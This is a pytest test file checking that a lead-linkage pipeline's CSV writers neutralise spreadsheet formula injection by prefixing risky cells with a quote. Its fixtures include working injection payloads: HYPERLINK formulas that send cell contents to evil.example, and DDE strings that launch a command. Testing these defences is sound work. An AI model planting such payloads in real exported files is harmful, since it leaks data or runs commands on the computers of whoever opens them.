"""CSV formula injection (issue 15): a cell a spreadsheet would run as a formula is written as
text, by every CSV writer; numbers we format and harmless text are left byte for byte."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import Engine
from tests.factories import NOW, driver, lead, load
from tests.pipeline.ops_world import SETTINGS

from leadlink.pipeline.csv_cells import FORMULA_PREFIXES, csv_writer, safe_cell
from leadlink.pipeline.resolution import linkage
from leadlink.pipeline.resolution.explain import export_links
from leadlink.pipeline.resolution.resolve import match

DANGEROUS = [
    ("=", '=HYPERLINK("http://evil.example/?d="&A1,"open")'),
    ("+", "+1+cmd|' /C calc'!A0"),
    ("-", "-2+3"),
    ("@", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t", "\t=1+1"),
    ("\r", "\r=1+1"),
]


def test_every_formula_prefix_is_covered_by_the_table() -> None:
    assert {first for first, _ in DANGEROUS} == set(FORMULA_PREFIXES)


@pytest.mark.parametrize(("first", "value"), DANGEROUS, ids=[repr(f) for f, _ in DANGEROUS])
def test_a_cell_starting_a_formula_gets_a_leading_quote(first: str, value: str) -> None:
    assert value.startswith(first)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["", "L-000123", "ana@example.com", "a=b", " =1", "'=1", "0.9731", "María"]
)
def test_harmless_text_is_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_a_carriage_return_and_ends_rows_with_a_line_feed() -> None:
    rows = [["a", "b c", 'say "hi"', "x,y", "two\nlines"], ["x\r=1+1", "0.5000", "", "-1", "'"]]
    plain = io.StringIO()
    csv.writer(plain, lineterminator="\n").writerows(rows[:1])
    ours = io.StringIO()
    csv_writer(ours).writerows(rows)
    # The first row is what the standard writer makes, byte for byte; the CR is quoted, so a
    # reader sees one cell, not a new row starting with a formula.
    assert ours.getvalue().startswith(plain.getvalue())
    assert ours.getvalue().endswith('"x\r=1+1",0.5000,,-1,\'\n')
    assert list(csv.reader(io.StringIO(ours.getvalue(), newline=""))) == rows


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_link_pairs_file_neutralises_ids_and_leaves_scores(tmp_path: Path) -> None:
    rows: list[linkage.Pair] = [
        (value, f"r{i}", "-0.5000", "match", "model") for i, (_, value) in enumerate(DANGEROUS)
    ]
    rows.append(("a1", "b1", "0.9731", "review", "model"))
    rows.insert(0, ("x\r=1+1", "b0", "0.1000", "review", "model"))  # a CR inside an id
    out = tmp_path / "pairs.csv"
    linkage.write_pairs(out, rows)
    got = _read(out)
    assert got[0] == list(linkage.OUTPUT_COLUMNS)
    assert len(got) == len(rows) + 1 and all(len(r) == 5 for r in got)
    assert got[1][0] == "x\r=1+1"
    assert [r[0] for r in got[2:-1]] == ["'" + value for _, value in DANGEROUS]
    # A score is a number we wrote: never quoted, even a negative one.
    assert {r[2] for r in got[2:-1]} == {"-0.5000"}
    assert got[-1] == ["a1", "b1", "0.9731", "review", "model"]


def test_export_links_writes_a_hyperlink_lead_id_as_text(engine: Engine, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
    person = {"first_name": "Ana", "last_name": "Torres Vega", "phone": "987000111"}
    # Ingested for real: the id is just text to the ingest, and the lead links to the driver.
    assert load(engine, tmp_path, "drivers", [driver("D1", **person)]).inserted == 1
    assert load(engine, tmp_path, "leads", [lead(evil, **person), lead("L2")]).inserted == 2
    match(engine, SETTINGS, now=NOW)

    out = tmp_path / "links.csv"
    assert export_links(engine, out) >= 2
    by_pk = {row[1]: row for row in _read(out)[1:]}
    assert evil not in by_pk
    row = by_pk["'" + evil]
    assert row[0] == "leads"
    assert float(row[4]) >= 0  # the score column is still a plain number
    assert "D1" in by_pk  # harmless ids are written as they are
    assert all(not cell.startswith(FORMULA_PREFIXES) for r in _read(out) for cell in r)
